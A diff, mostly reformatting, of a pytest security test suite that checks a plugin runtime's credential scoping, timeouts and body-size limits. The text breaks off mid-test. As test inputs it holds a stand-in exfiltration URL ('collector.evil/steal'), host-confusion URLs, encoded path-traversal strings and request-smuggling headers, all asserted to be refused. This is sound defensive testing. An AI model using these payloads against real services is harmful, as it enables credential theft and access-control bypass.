@@ -10,24 +10,23 @@ plain-http test server through `_TlsShim` (TLS terminated in the test, as in tes
 from __future__ import annotations
 
 import copy
-
 import dataclasses
 import socket
 import threading
 import time
 import tracemalloc
+from collections.abc import Callable, Iterator
 from pathlib import Path
-from typing import Any, Callable, Iterator
+from typing import Any
 
 import pytest
+from conftest import GemBuilder
 from pytest_httpserver import HTTPServer
 from werkzeug import Request, Response
 
 import workbench
 from workbench.ctx.limits import DEFAULT
 from workbench.providers.http import HttpRequest, HttpResponse, RealTransport
-
-from conftest import GemBuilder
 
 SECRET = "u5er-github-t0ken-value"
 MiB = 1024 * 1024
@@ -44,8 +43,6 @@ export default async function (input, ctx) {
            denied: r.credentialDenied ?? null, url: r.url };
 }
 """
-
-
 
 
 def http_gem(gem: GemBuilder, connections: dict[str, Any]) -> GemBuilder:
@@ -82,8 +79,9 @@ class _TlsShim(RealTransport):
 
     def send(self, request: HttpRequest, timeout: float, max_bytes: int | None = None) -> HttpResponse:
         url = request.url.replace("https://", "http://", 1)
-        return super().send(HttpRequest(request.method, url, request.headers, request.body),
-                            timeout, max_bytes)
+        return super().send(
+            HttpRequest(request.method, url, request.headers, request.body), timeout, max_bytes
+        )
 
 
 def creds(*hosts: str, paths: list[str] | None = None, name: str = "acme") -> dict[str, Any]:
@@ -98,12 +96,15 @@ EVERYTHING = [{"match": lambda r: True, "respond": None}]
 
 
 # == SEC4: the user's configuration, not the manifest, decides where a credential goes ==========
-def test_SEC4_credential_not_sent_to_gem_chosen_host(gem: GemBuilder, opened: Callable, lang: str,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_SEC4_credential_not_sent_to_gem_chosen_host(
+    gem: GemBuilder, opened: Callable, lang: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The issue's attack: a gem declares the user's `github` connection on its own host."""
     rec = Recorder()
-    bench = opened(http_gem(gem, {"github": {"hosts": ["collector.evil"]}}),
-                   http=[{"match": lambda r: True, "respond": rec}])
+    bench = opened(
+        http_gem(gem, {"github": {"hosts": ["collector.evil"]}}),
+        http=[{"match": lambda r: True, "respond": rec}],
+    )
     monkeypatch.setenv("GEM_WORKBENCH_CONN_GITHUB_TOKEN", SECRET)  # token, but no hosts
     res = fetch(bench, lang, "https://collector.evil/steal", connection="github")
     res.raise_for_error()
@@ -118,30 +119,38 @@ def test_SEC4_credential_not_sent_to_gem_chosen_host(gem: GemBuilder, opened: Ca
     assert SECRET not in bench.http().to_string() + str(res.trace_rows) + str(res.value)
 
 
-def test_SEC4_credential_not_sent_to_gem_chosen_host_real_server(gem: GemBuilder, opened: Callable,
-                                                                 lang: str, httpserver: HTTPServer) -> None:
+def test_SEC4_credential_not_sent_to_gem_chosen_host_real_server(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     seen: list[str | None] = []
     httpserver.expect_request("/collect").respond_with_handler(
-        lambda req: (seen.append(req.headers.get("Authorization")), Response("got it"))[1])
+        lambda req: (seen.append(req.headers.get("Authorization")), Response("got it"))[1]
+    )
     port = httpserver.port
-    bench = opened(http_gem(gem, {"github": {"hosts": [f"localhost:{port}"]}}), http=_TlsShim(),
-                   credentials=creds("api.github.com", name="github"))
+    bench = opened(
+        http_gem(gem, {"github": {"hosts": [f"localhost:{port}"]}}),
+        http=_TlsShim(),
+        credentials=creds("api.github.com", name="github"),
+    )
     res = fetch(bench, lang, f"https://localhost:{port}/collect", connection="github")
     res.raise_for_error()
     assert seen == [None] and res.value["text"] == "got it"
     assert res.value["denied"]["reason"] == "host not allowed by the credential"
 
 
-def test_SEC4_code_given_header_dict_without_hosts_is_refused(gem: GemBuilder, opened: Callable,
-                                                              tmp_path: Path) -> None:
+def test_SEC4_code_given_header_dict_without_hosts_is_refused(
+    gem: GemBuilder, opened: Callable, tmp_path: Path
+) -> None:
     """The old `{name: {header: value}}` let the manifest pick the hosts: refused, saying what to add."""
     import json
 
     http_gem(gem, ACME)
-    for given in ({"acme": {"Authorization": f"Bearer {SECRET}"}},
-                  {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}}},
-                  {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}, "hosts": []}},
-                  {"acme": {"token": SECRET, "hosts": ["https://api.acme.example/"]}}):
+    for given in (
+        {"acme": {"Authorization": f"Bearer {SECRET}"}},
+        {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}}},
+        {"acme": {"headers": {"Authorization": f"Bearer {SECRET}"}, "hosts": []}},
+        {"acme": {"token": SECRET, "hosts": ["https://api.acme.example/"]}},
+    ):
         with pytest.raises(workbench.UsageError) as info:
             opened(gem, credentials=given)
         assert "hosts" in str(info.value) and SECRET not in str(info.value), given
@@ -154,14 +163,19 @@ def test_SEC4_code_given_header_dict_without_hosts_is_refused(gem: GemBuilder, o
 
 def test_SEC4_manifest_can_narrow_never_widen(gem: GemBuilder, opened: Callable, lang: str) -> None:
     rec = Recorder()
-    bench = opened(http_gem(gem, {"acme": {"hosts": ["api.acme.example", "*.acme.example"],
-                                           "paths": ["/v1/", "/admin/"]}}),
-                   http=[{"match": lambda r: True, "respond": rec}],
-                   credentials=creds("api.acme.example", "files.acme.example", paths=["/v1/"]))
-    cases = [("https://api.acme.example/v1/ok", None),
-             ("https://files.acme.example/v1/ok", None),
-             ("https://other.acme.example/v1/x", "host not allowed by the credential"),
-             ("https://api.acme.example/admin/x", "path not allowed by the credential")]
+    bench = opened(
+        http_gem(
+            gem, {"acme": {"hosts": ["api.acme.example", "*.acme.example"], "paths": ["/v1/", "/admin/"]}}
+        ),
+        http=[{"match": lambda r: True, "respond": rec}],
+        credentials=creds("api.acme.example", "files.acme.example", paths=["/v1/"]),
+    )
+    cases = [
+        ("https://api.acme.example/v1/ok", None),
+        ("https://files.acme.example/v1/ok", None),
+        ("https://other.acme.example/v1/x", "host not allowed by the credential"),
+        ("https://api.acme.example/admin/x", "path not allowed by the credential"),
+    ]
     for url, reason in cases:
         res = fetch(bench, lang, url, connection="acme")
         res.raise_for_error()
@@ -169,16 +183,28 @@ def test_SEC4_manifest_can_narrow_never_widen(gem: GemBuilder, opened: Callable,
     assert rec.auth == [[f"Bearer {SECRET}"], [f"Bearer {SECRET}"], [], []]
 
 
-@pytest.mark.parametrize("path", [
-    "/v1/../admin", "/v1/%2e%2e/admin", "/v1/%2E%2E/admin", "/v1/.%2e/admin", "/v1/..%2fadmin",
-    "/v1%2f..%2fadmin", "/v1/%252e%252e/admin", "/v1/..%5cadmin", "/v1\\..\\admin",
-    "/v1/x/%2e%2e/%2e%2e/admin",
-])
-def test_SEC4_path_grant_checked_on_the_normalised_path(gem: GemBuilder, opened: Callable,
-                                                        path: str) -> None:
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/v1/../admin",
+        "/v1/%2e%2e/admin",
+        "/v1/%2E%2E/admin",
+        "/v1/.%2e/admin",
+        "/v1/..%2fadmin",
+        "/v1%2f..%2fadmin",
+        "/v1/%252e%252e/admin",
+        "/v1/..%5cadmin",
+        "/v1\\..\\admin",
+        "/v1/x/%2e%2e/%2e%2e/admin",
+    ],
+)
+def test_SEC4_path_grant_checked_on_the_normalised_path(gem: GemBuilder, opened: Callable, path: str) -> None:
     rec = Recorder()
-    bench = opened(http_gem(gem, ACME), http=[{"match": lambda r: True, "respond": rec}],
-                   credentials=creds("api.acme.example"))
+    bench = opened(
+        http_gem(gem, ACME),
+        http=[{"match": lambda r: True, "respond": rec}],
+        credentials=creds("api.acme.example"),
+    )
     res = fetch(bench, "py", f"https://api.acme.example{path}", connection="acme")
     res.raise_for_error()
     assert rec.auth == [[]], rec.seen[0].url
@@ -188,8 +214,9 @@ def test_SEC4_path_grant_checked_on_the_normalised_path(gem: GemBuilder, opened:
 
 
 @pytest.mark.deno
-def test_SEC4_path_dot_segments_from_js_real_server(gem: GemBuilder, opened: Callable,
-                                                    httpserver: HTTPServer) -> None:
+def test_SEC4_path_dot_segments_from_js_real_server(
+    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
+) -> None:
     """The server sees the normalised path, without the credential, from a JS tool."""
     seen: list[tuple[str, str | None]] = []
 
@@ -199,8 +226,11 @@ def test_SEC4_path_dot_segments_from_js_real_server(gem: GemBuilder, opened: Cal
 
     httpserver.expect_request("/admin").respond_with_handler(record)
     port = httpserver.port
-    bench = opened(http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
-                   http=_TlsShim(), credentials=creds(f"localhost:{port}"))
+    bench = opened(
+        http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
+        http=_TlsShim(),
+        credentials=creds(f"localhost:{port}"),
+    )
     for path in ("/v1/../admin", "/v1/%2e%2e/admin"):
         res = fetch(bench, "js", f"https://localhost:{port}{path}", connection="acme")
         res.raise_for_error()
@@ -210,11 +240,24 @@ def test_SEC4_path_dot_segments_from_js_real_server(gem: GemBuilder, opened: Cal
 
 def test_SEC4_path_grant_matches_whole_segments(gem: GemBuilder, opened: Callable, lang: str) -> None:
     rec = Recorder()
-    bench = opened(http_gem(gem, {"acme": {"hosts": ["api.acme.example"], "paths": ["/api", "/v1/"]}}),
-                   http=[{"match": lambda r: True, "respond": rec}], credentials=creds("api.acme.example"))
-    cases = {"/api": True, "/api/": True, "/api/x": True, "/v1/": True, "/v1/x": True,
-             "/api-evil": False, "/apix/y": False, "/v1": False, "/v1x/y": False, "/API/x": False,
-             "/v1/x/../../api-evil": False}
+    bench = opened(
+        http_gem(gem, {"acme": {"hosts": ["api.acme.example"], "paths": ["/api", "/v1/"]}}),
+        http=[{"match": lambda r: True, "respond": rec}],
+        credentials=creds("api.acme.example"),
+    )
+    cases = {
+        "/api": True,
+        "/api/": True,
+        "/api/x": True,
+        "/v1/": True,
+        "/v1/x": True,
+        "/api-evil": False,
+        "/apix/y": False,
+        "/v1": False,
+        "/v1x/y": False,
+        "/API/x": False,
+        "/v1/x/../../api-evil": False,
+    }
     for path, ok in cases.items():
         res = fetch(bench, lang, f"https://api.acme.example{path}", connection="acme")
         res.raise_for_error()
@@ -225,8 +268,7 @@ def test_SEC4_path_grant_matches_whole_segments(gem: GemBuilder, opened: Callabl
 def test_SEC4_port_is_part_of_the_grant(gem: GemBuilder, opened: Callable, lang: str) -> None:
     rec = Recorder()
     g = http_gem(gem, ACME)
-    bench = opened(g, http=[{"match": lambda r: True, "respond": rec}],
-                   credentials=creds("api.acme.example"))
+    bench = opened(g, http=[{"match": lambda r: True, "respond": rec}], credentials=creds("api.acme.example"))
     for url in ("https://api.acme.example:8443/v1/x", "https://api.acme.example:444/v1/x"):
         res = fetch(bench, lang, url, connection="acme")
         assert res.value["denied"] == {"reason": "host not granted", "host": "api.acme.example"}
@@ -236,23 +278,37 @@ def test_SEC4_port_is_part_of_the_grant(gem: GemBuilder, opened: Callable, lang:
     assert rec.seen[2].url == "https://api.acme.example/v1/x"
     # an explicit port on both sides allows it
     g.manifest["permissions"]["http"]["connections"]["acme"]["hosts"] = ["api.acme.example:8443"]
-    bench2 = opened(g, http=[{"match": lambda r: True, "respond": rec}],
-                    credentials=creds("api.acme.example:8443"), state_dir=g.root.parent / "s2")
-    assert fetch(bench2, lang, "https://api.acme.example:8443/v1/x", connection="acme").value["denied"] is None
-    assert fetch(bench2, lang, "https://api.acme.example/v1/x", connection="acme").value["denied"]["reason"] \
+    bench2 = opened(
+        g,
+        http=[{"match": lambda r: True, "respond": rec}],
+        credentials=creds("api.acme.example:8443"),
+        state_dir=g.root.parent / "s2",
+    )
+    assert (
+        fetch(bench2, lang, "https://api.acme.example:8443/v1/x", connection="acme").value["denied"] is None
+    )
+    assert (
+        fetch(bench2, lang, "https://api.acme.example/v1/x", connection="acme").value["denied"]["reason"]
         == "host not granted"
+    )
     assert rec.auth[3:] == [[f"Bearer {SECRET}"], []]
 
 
-def test_SEC4_userinfo_and_backslash_do_not_confuse_the_host(gem: GemBuilder, opened: Callable,
-                                                             lang: str) -> None:
+def test_SEC4_userinfo_and_backslash_do_not_confuse_the_host(
+    gem: GemBuilder, opened: Callable, lang: str
+) -> None:
     rec = Recorder()
-    bench = opened(http_gem(gem, ACME), http=[{"match": lambda r: True, "respond": rec}],
-                   credentials=creds("api.acme.example"))
-    for url in ("https://api.acme.example@evil.example/v1/x",
-                "https://api.acme.example:443@evil.example/v1/x",
-                "https://user:pw@api.acme.example/v1/x",
-                "https://api.acme.example%2f@evil.example/v1/x"):
+    bench = opened(
+        http_gem(gem, ACME),
+        http=[{"match": lambda r: True, "respond": rec}],
+        credentials=creds("api.acme.example"),
+    )
+    for url in (
+        "https://api.acme.example@evil.example/v1/x",
+        "https://api.acme.example:443@evil.example/v1/x",
+        "https://user:pw@api.acme.example/v1/x",
+        "https://api.acme.example%2f@evil.example/v1/x",
+    ):
         res = fetch(bench, lang, url, connection="acme")
         assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", url
     # a browser reads "\" as "/": this URL is evil.example, and the request goes there bare
@@ -264,42 +320,65 @@ def test_SEC4_userinfo_and_backslash_do_not_confuse_the_host(gem: GemBuilder, op
 
 def test_SEC4_host_names_are_normalised(gem: GemBuilder, opened: Callable, lang: str) -> None:
     rec = Recorder()
-    bench = opened(http_gem(gem, {"acme": {"hosts": ["API.acme.example.", "xn--bcher-kva.example"]},
-                                  "wild": {"hosts": ["*.acme.example"]}}),
-                   http=[{"match": lambda r: True, "respond": rec}],
-                   credentials={**creds("api.acme.example", "bücher.example"),
-                                **creds("*.Acme.Example", name="wild")})
+    bench = opened(
+        http_gem(
+            gem,
+            {
+                "acme": {"hosts": ["API.acme.example.", "xn--bcher-kva.example"]},
+                "wild": {"hosts": ["*.acme.example"]},
+            },
+        ),
+        http=[{"match": lambda r: True, "respond": rec}],
+        credentials={**creds("api.acme.example", "bücher.example"), **creds("*.Acme.Example", name="wild")},
+    )
     ok = ["https://API.ACME.EXAMPLE./v1/x", "https://BÜCHER.example/x", "https://xn--bcher-kva.example./y"]
     for url in ok:
         res = fetch(bench, lang, url, connection="acme")
         assert res.value["denied"] is None, url
-    assert [r.url for r in rec.seen] == ["https://api.acme.example/v1/x", "https://xn--bcher-kva.example/x",
-                                         "https://xn--bcher-kva.example/y"]
-    for url, conn in [("https://api.acme.example.evil.example/", "acme"),
-                      ("https://evilacme.example/", "wild"), ("https://acme.example/", "wild"),
-                      ("https://x.acme.example.evil/", "wild")]:
+    assert [r.url for r in rec.seen] == [
+        "https://api.acme.example/v1/x",
+        "https://xn--bcher-kva.example/x",
+        "https://xn--bcher-kva.example/y",
+    ]
+    for url, conn in [
+        ("https://api.acme.example.evil.example/", "acme"),
+        ("https://evilacme.example/", "wild"),
+        ("https://acme.example/", "wild"),
+        ("https://x.acme.example.evil/", "wild"),
+    ]:
         res = fetch(bench, lang, url, connection=conn)
         assert res.value["denied"] is not None, url
     assert fetch(bench, lang, "https://a.b.ACME.example./z", connection="wild").value["denied"] is None
     assert [bool(a) for a in rec.auth] == [True] * 3 + [False] * 4 + [True]
 
 
-def test_SEC4_tool_set_authorization_is_dropped_when_injecting(gem: GemBuilder, opened: Callable,
-                                                               lang: str, httpserver: HTTPServer) -> None:
+def test_SEC4_tool_set_authorization_is_dropped_when_injecting(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     seen: list[list[str]] = []
 
     def record(req: Request) -> Response:
-        seen.append([f"{k}: {v}" for k, v in req.headers.items() if k.lower() in ("authorization", "x-api-key")])
+        seen.append(
+            [f"{k}: {v}" for k, v in req.headers.items() if k.lower() in ("authorization", "x-api-key")]
+        )
         return Response("ok")
 
     httpserver.expect_request("/v1/x").respond_with_handler(record)
     port = httpserver.port
-    bench = opened(http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
-                   http=_TlsShim(),
-                   credentials={"acme": {"headers": {"Authorization": f"Bearer {SECRET}", "X-Api-Key": "k3y-user"},
-                                         "hosts": [f"localhost:{port}"]}})
-    for headers in ([["authorization", "Bearer tool-chosen"], ["x-API-key", "tool-key"]],
-                    {"AUTHORIZATION": "Basic dG9vbA=="}):
+    bench = opened(
+        http_gem(gem, {"acme": {"hosts": [f"localhost:{port}"], "paths": ["/v1/"]}}),
+        http=_TlsShim(),
+        credentials={
+            "acme": {
+                "headers": {"Authorization": f"Bearer {SECRET}", "X-Api-Key": "k3y-user"},
+                "hosts": [f"localhost:{port}"],
+            }
+        },
+    )
+    for headers in (
+        [["authorization", "Bearer tool-chosen"], ["x-API-key", "tool-key"]],
+        {"AUTHORIZATION": "Basic dG9vbA=="},
+    ):
         res = fetch(bench, lang, f"https://localhost:{port}/v1/x", connection="acme", headers=headers)
         res.raise_for_error()
         assert res.value["denied"] is None
@@ -323,40 +402,49 @@ def test_SEC4_every_redirect_hop_is_checked_again(gem: GemBuilder, opened: Calla
             return {"status": 302, "headers": {"Location": hops[req.url]}}
         return rec(req)
 
-    bench = opened(http_gem(gem, {"acme": {"hosts": ["api.acme.example", "api.acme.example:8443"],
-                                           "paths": ["/v1/"]}}),
-                   http=[{"match": lambda r: True, "respond": route}],
-                   credentials=creds("api.acme.example", "api.acme.example:8443"))
-    expect = {"https://api.acme.example/v1/port": "redirected to another port",
-              "https://api.acme.example/v1/up": "path not granted",
-              "https://api.acme.example/v1/enc": "path not granted"}
+    bench = opened(
+        http_gem(gem, {"acme": {"hosts": ["api.acme.example", "api.acme.example:8443"], "paths": ["/v1/"]}}),
+        http=[{"match": lambda r: True, "respond": route}],
+        credentials=creds("api.acme.example", "api.acme.example:8443"),
+    )
+    expect = {
+        "https://api.acme.example/v1/port": "redirected to another port",
+        "https://api.acme.example/v1/up": "path not granted",
+        "https://api.acme.example/v1/enc": "path not granted",
+    }
     for start, reason in expect.items():
         res = fetch(bench, lang, start, connection="acme")
         res.raise_for_error()
         assert res.value["denied"]["reason"] == reason, start
         assert rec.auth[-2:] == [[f"Bearer {SECRET}"], []], start  # the first hop had it, not the next
-    assert [r.url for r in rec.seen][1::2] == ["https://api.acme.example:8443/v1/x",
-                                              "https://api.acme.example/admin/x",
-                                              "https://api.acme.example/admin"]
+    assert [r.url for r in rec.seen][1::2] == [
+        "https://api.acme.example:8443/v1/x",
+        "https://api.acme.example/admin/x",
+        "https://api.acme.example/admin",
+    ]
     res = fetch(bench, lang, "https://api.acme.example/v1/user", connection="acme")
     assert res.error.code == "E_HTTP" and "invalid URL" in res.error.message
     assert SECRET not in str(res.error) and len(rec.seen) == 7
     assert (bench.http()["credential"].tolist()[:3]) == ["dropped"] * 3
 
 
-def test_SEC4_no_cookies_carried_between_calls(gem: GemBuilder, opened: Callable, lang: str,
-                                               httpserver: HTTPServer) -> None:
+def test_SEC4_no_cookies_carried_between_calls(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     httpserver.expect_request("/set").respond_with_handler(
-        lambda req: Response("set", headers={"Set-Cookie": "session=abc123; Path=/"}))
+        lambda req: Response("set", headers={"Set-Cookie": "session=abc123; Path=/"})
+    )
     httpserver.expect_request("/check").respond_with_handler(
-        lambda req: Response(req.headers.get("Cookie") or "no cookie"))
+        lambda req: Response(req.headers.get("Cookie") or "no cookie")
+    )
     bench = opened(http_gem(gem, {}), http="real")
     assert fetch(bench, lang, httpserver.url_for("/set")).value["text"] == "set"
     assert fetch(bench, lang, httpserver.url_for("/check")).value["text"] == "no cookie"
     assert fetch(bench, "py", httpserver.url_for("/check")).value["text"] == "no cookie"
     # nor through a redirect within one call: a Set-Cookie on a hop is not replayed
     httpserver.expect_request("/hop").respond_with_handler(
-        lambda req: Response("", status=302, headers={"Set-Cookie": "hop=1; Path=/", "Location": "/check"}))
+        lambda req: Response("", status=302, headers={"Set-Cookie": "hop=1; Path=/", "Location": "/check"})
+    )
     assert fetch(bench, lang, httpserver.url_for("/hop")).value["text"] == "no cookie"
 
 
@@ -368,12 +456,15 @@ def _drip(seconds: float, every: float = 0.05) -> Callable[[Request], Response]:
             while time.monotonic() < end:
                 yield b"x"
                 time.sleep(every)
+
         return Response(body(), content_type="text/plain")
+
     return handler
 
 
-def test_SEC5_slow_drip_body_bounded_by_http_timeout(gem: GemBuilder, opened: Callable, lang: str,
-                                                     httpserver: HTTPServer) -> None:
+def test_SEC5_slow_drip_body_bounded_by_http_timeout(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     httpserver.expect_request("/drip").respond_with_handler(_drip(8.0))
     bench = opened(http_gem(gem, {}), http="real", http_timeout=1.0)
     t0 = time.monotonic()
@@ -385,8 +476,9 @@ def test_SEC5_slow_drip_body_bounded_by_http_timeout(gem: GemBuilder, opened: Ca
         assert res.error.details["reason"] == "timeout"
 
 
-def test_SEC5_tool_timeout_option_cannot_lengthen_http_timeout(gem: GemBuilder, opened: Callable,
-                                                               httpserver: HTTPServer) -> None:
+def test_SEC5_tool_timeout_option_cannot_lengthen_http_timeout(
+    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
+) -> None:
     httpserver.expect_request("/drip").respond_with_handler(_drip(8.0))
     bench = opened(http_gem(gem, {}), http="real", http_timeout=1.0)
     t0 = time.monotonic()
@@ -445,8 +537,9 @@ def test_SEC5_slow_drip_headers_bounded(gem: GemBuilder, opened: Callable, lang:
     assert res.error is not None and res.error.code == "E_HTTP" and took < 3.0, (res.error, took)
 
 
-def test_SEC5_fetch_bounded_by_the_calls_remaining_time(gem: GemBuilder, opened: Callable, lang: str,
-                                                        httpserver: HTTPServer) -> None:
+def test_SEC5_fetch_bounded_by_the_calls_remaining_time(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     """http_timeout 30 s, but the call has 2 s: the fetch stops when the call's time is up."""
     httpserver.expect_request("/drip").respond_with_handler(_drip(10.0))
     bench = opened(http_gem(gem, {}), http="real", http_timeout=30.0, timeout=2.0)
@@ -460,19 +553,23 @@ def test_SEC5_fetch_bounded_by_the_calls_remaining_time(gem: GemBuilder, opened:
 
 def _huge(total: int, declared: bool = False) -> Callable[[Request], Response]:
     """A body of `total` bytes, generated chunk by chunk (never allocated whole)."""
+
     def handler(req: Request) -> Response:
         chunk = b"z" * MiB
 
         def body() -> Iterator[bytes]:
             for _ in range(total // MiB):
                 yield chunk
+
         headers = {"Content-Length": str(total)} if declared else {}
         return Response(body(), content_type="application/octet-stream", headers=headers)
+
     return handler
 
 
-def test_SEC5_huge_body_stops_at_http_body_bytes(gem: GemBuilder, opened: Callable,
-                                                 httpserver: HTTPServer) -> None:
+def test_SEC5_huge_body_stops_at_http_body_bytes(
+    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
+) -> None:
     """300 MB streamed (no Content-Length): cut at the 20 MiB default, memory stays small."""
     httpserver.expect_request("/huge").respond_with_handler(_huge(300 * MiB))
     bench = opened(http_gem(gem, {}), http="real", http_timeout=60.0)
@@ -491,17 +588,20 @@ def test_SEC5_huge_body_stops_at_http_body_bytes(gem: GemBuilder, opened: Callab
 
 
 @pytest.mark.deno
-def test_SEC5_huge_body_from_js_is_E_TOO_LARGE(gem: GemBuilder, opened: Callable,
-                                               httpserver: HTTPServer) -> None:
+def test_SEC5_huge_body_from_js_is_E_TOO_LARGE(
+    gem: GemBuilder, opened: Callable, httpserver: HTTPServer
+) -> None:
     httpserver.expect_request("/huge").respond_with_handler(_huge(64 * MiB))
-    bench = opened(http_gem(gem, {}), http="real",
-                   limits=dataclasses.replace(DEFAULT, http_body_bytes=2 * MiB))
+    bench = opened(
+        http_gem(gem, {}), http="real", limits=dataclasses.replace(DEFAULT, http_body_bytes=2 * MiB)
+    )
     res = fetch(bench, "js", httpserver.url_for("/huge"))
     assert res.error.code == "E_TOO_LARGE" and "http_body_bytes" in res.error.message
 
 
-def test_SEC5_declared_length_over_the_cap_is_not_read(gem: GemBuilder, opened: Callable, lang: str,
-                                                       httpserver: HTTPServer) -> None:
+def test_SEC5_declared_length_over_the_cap_is_not_read(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     httpserver.expect_request("/big").respond_with_handler(_huge(300 * MiB, declared=True))
     bench = opened(http_gem(gem, {}), http="real")
     t0 = time.monotonic()
@@ -511,14 +611,16 @@ def test_SEC5_declared_length_over_the_cap_is_not_read(gem: GemBuilder, opened: 
 
 
 @pytest.mark.parametrize("transport", ["mock", "real"])
-def test_SEC5_body_cap_is_the_same_on_mock_and_real(gem: GemBuilder, opened: Callable, lang: str,
-                                                    httpserver: HTTPServer, transport: str) -> None:
-    httpserver.expect_request("/b").respond_with_handler(
-        lambda req: Response(b"y" * int(req.args["n"])))
-    http: Any = "real" if transport == "real" else [
-        {"match": lambda r: True, "respond": lambda r: {"body": b"y" * int(r.url.split("n=")[1])}}]
-    bench = opened(http_gem(gem, {}), http=http,
-                   limits=dataclasses.replace(DEFAULT, http_body_bytes=1000))
+def test_SEC5_body_cap_is_the_same_on_mock_and_real(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer, transport: str
+) -> None:
+    httpserver.expect_request("/b").respond_with_handler(lambda req: Response(b"y" * int(req.args["n"])))
+    http: Any = (
+        "real"
+        if transport == "real"
+        else [{"match": lambda r: True, "respond": lambda r: {"body": b"y" * int(r.url.split("n=")[1])}}]
+    )
+    bench = opened(http_gem(gem, {}), http=http, limits=dataclasses.replace(DEFAULT, http_body_bytes=1000))
     assert fetch(bench, lang, httpserver.url_for("/b") + "?n=1000").value["text"] == "y" * 1000
     res = fetch(bench, lang, httpserver.url_for("/b") + "?n=1001")
     assert res.error.code == "E_TOO_LARGE" and "1,000 bytes" in res.error.message
@@ -526,6 +628,7 @@ def test_SEC5_body_cap_is_the_same_on_mock_and_real(gem: GemBuilder, opened: Cal
 
 def test_SEC5_slow_mock_handler_is_bounded_too(gem: GemBuilder, opened: Callable) -> None:
     """A transport that cannot be cut (a mock handler) still ends the fetch as a timeout."""
+
     def slow(req: HttpRequest) -> str:
         time.sleep(0.6)
         return "late"
@@ -538,10 +641,12 @@ def test_SEC5_slow_mock_handler_is_bounded_too(gem: GemBuilder, opened: Callable
 # == Fetch's forbidden methods and headers, `..;`, encoded bodies (SEC4, SEC5, N10) ===============
 def _echo(seen: list[Request]) -> Callable[[Request], Response]:
     """Records each request and answers with its headers, as a TRACE would echo them."""
+
     def handler(req: Request) -> Response:
         req.get_data()  # read the body while the request is open
         seen.append(req)
         return Response("\n".join(f"{k}: {v}" for k, v in req.headers.items()))
+
     return handler
 
 
@@ -549,12 +654,14 @@ def _local(gem: GemBuilder, opened: Callable, port: int, paths: list[str] | None
     grant: dict[str, Any] = {"hosts": [f"localhost:{port}"]}
     if paths is not None:
         grant["paths"] = paths
-    return opened(http_gem(gem, {"acme": grant}), http=_TlsShim(),
-                  credentials=creds(f"localhost:{port}", paths=paths))
+    return opened(
+        http_gem(gem, {"acme": grant}), http=_TlsShim(), credentials=creds(f"localhost:{port}", paths=paths)
+    )
 
 
-def test_SEC4_trace_connect_track_are_refused(gem: GemBuilder, opened: Callable, lang: str,
-                                              httpserver: HTTPServer) -> None:
+def test_SEC4_trace_connect_track_are_refused(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     """TRACE echoes the request: with a connection it handed the injected token to the tool."""
     import re
 
@@ -569,29 +676,59 @@ def test_SEC4_trace_connect_track_are_refused(gem: GemBuilder, opened: Callable,
             assert res.error is not None and res.error.code == "E_INVALID_ARGUMENT", (method, res.value)
             assert method.upper() in res.error.message and SECRET not in str(res.error)
     assert seen == []
-    assert fetch(bench, lang, f"https://localhost:{port}/v1/x", method="GET",
-                 connection="acme").value["denied"] is None and len(seen) == 1
+    assert (
+        fetch(bench, lang, f"https://localhost:{port}/v1/x", method="GET", connection="acme").value["denied"]
+        is None
+        and len(seen) == 1
+    )
 
 
-def test_SEC4_forbidden_request_headers_are_dropped(gem: GemBuilder, opened: Callable, lang: str,
-                                                    httpserver: HTTPServer) -> None:
+def test_SEC4_forbidden_request_headers_are_dropped(
+    gem: GemBuilder, opened: Callable, lang: str, httpserver: HTTPServer
+) -> None:
     """Host routing, request smuggling and a wrong Content-Length next to the credential."""
     seen: list[Request] = []
     httpserver.expect_request("/v1/x").respond_with_handler(_echo(seen))
     port = httpserver.port
     bench = _local(gem, opened, port, paths=["/v1/"])
-    forbidden = {"Host": "evil.example", "Transfer-Encoding": "chunked", "Content-Length": "5",
-                 "Connection": "Upgrade", "Upgrade": "h2c", "Keep-Alive": "timeout=999",
-                 "TE": "trailers", "Trailer": "X-Late", "Expect": "100-continue",
-                 "Proxy-Authorization": "Basic eA==", "Proxy-Connection": "keep-alive",
-                 "Sec-Fetch-Site": "same-origin", "Origin": "https://evil.example",
-                 "Referer": "https://evil.example/", "Via": "1.1 evil", "Date": "x", "DNT": "1",
-                 "Accept-Charset": "utf-7", "Accept-Encoding": "br", "Set-Cookie": "a=b",
-                 "Access-Control-Request-Method": "PUT", "X-HTTP-Method-Override": "TRACE"}
-    headers = [[k, v] for k, v in forbidden.items()] + [["Cookie", "own=1"], ["X-Ok", "fine"],
-                                                        ["x-method-override", "PATCH"]]
-    res = fetch(bench, lang, f"https://localhost:{port}/v1/x", method="POST", body="hello world",
-                headers=headers, connection="acme")
+    forbidden = {
+        "Host": "evil.example",
+        "Transfer-Encoding": "chunked",
+        "Content-Length": "5",
+        "Connection": "Upgrade",
+        "Upgrade": "h2c",
+        "Keep-Alive": "timeout=999",
+        "TE": "trailers",
+        "Trailer": "X-Late",
+        "Expect": "100-continue",
+        "Proxy-Authorization": "Basic eA==",
+        "Proxy-Connection": "keep-alive",
+        "Sec-Fetch-Site": "same-origin",
+        "Origin": "https://evil.example",
+        "Referer": "https://evil.example/",
